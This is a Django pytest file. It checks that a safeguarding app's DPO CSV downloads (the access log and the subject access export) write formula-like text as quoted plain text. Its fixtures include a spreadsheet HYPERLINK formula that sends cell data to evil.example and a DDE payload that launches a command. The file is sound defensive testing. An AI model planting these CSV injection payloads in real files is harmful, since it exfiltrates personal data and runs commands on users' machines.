"""The DPO's CSV downloads write what people typed as text when it would open as a formula: the "who has seen"
list (the purpose someone gave) and the subject access export's CSVs (case summaries, notes, chronology, names)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from django.urls import reverse

from safer.cases.models import Case, CaseNote, ChronologyEntry, Person
from safer.core.audit import record_access
from safer.core.models import AccessAction, Job, JobStatus
from safer.documents import subject_access

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A3,"x")'
CMD = "=cmd|' /C calc'!A0"


def read_csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_who_has_seen_writes_a_purpose_that_is_a_formula_as_text(signed_in, partnership, dpo, caseworker_a, victim):
    for purpose in (HYPERLINK, "@SUM(1)", "-2+3"):
        record_access(
            action=AccessAction.VIEW,
            actor=caseworker_a,
            partnership=partnership,
            object_type="person",
            object_id=victim.person.pk,
            purpose=purpose,
        )
    client = signed_in(dpo)
    response = client.get(reverse("documents:who-has-seen-person", args=[victim.person.pk]), {"format": "csv"})
    rows = read_csv(response.content)
    purposes = [r["Purpose given"] for r in rows]
    assert sorted(purposes[1:]) == sorted(["'" + HYPERLINK, "'@SUM(1)", "'-2+3"])  # newest first: the DPO's own
    assert rows[0]["Who"] == dpo.full_name


def test_the_subject_access_export_writes_formulas_as_text(signed_in, partnership, council, dpo, case, victim):
    Case.objects.filter(pk=case.pk).update(summary=HYPERLINK)
    Person.objects.filter(pk=victim.person.pk).update(given_name="+SUM(1)")
    CaseNote.objects.create(case=case, text=CMD, agency=council)
    ChronologyEntry.objects.create(case=case, kind="note", summary="@SUM(1)")
    sar = subject_access.register_request(
        partnership=partnership, actor=dpo, requester_name="Vera Quiet", received_on=date(2026, 1, 31)
    )
    client = signed_in(dpo)
    client.post(reverse("documents:sar", args=[sar.pk]), {"action": "match", "match-person": victim.person_id})
    client.post(reverse("documents:sar-export", args=[sar.pk]))
    job = Job.objects.get(kind=subject_access.EXPORT_KIND)
    assert job.status == JobStatus.SUCCEEDED, job.message
    download = client.get(reverse("core:job-download", args=[job.pk]))
    archive = zipfile.ZipFile(io.BytesIO(b"".join(download.streaming_content)))
    assert read_csv(archive.read("person.csv"))[0]["given_name"] == "'+SUM(1)"
    assert read_csv(archive.read("cases.csv"))[0]["summary"] == "'" + HYPERLINK
    assert [n["text"] for n in read_csv(archive.read("notes.csv"))] == ["'" + CMD]
    assert "'@SUM(1)" in [e["summary"] for e in read_csv(archive.read("chronology.csv"))]
    assert read_csv(archive.read("person.csv"))[0]["family_name"] == "Quiet"  # the rest as before
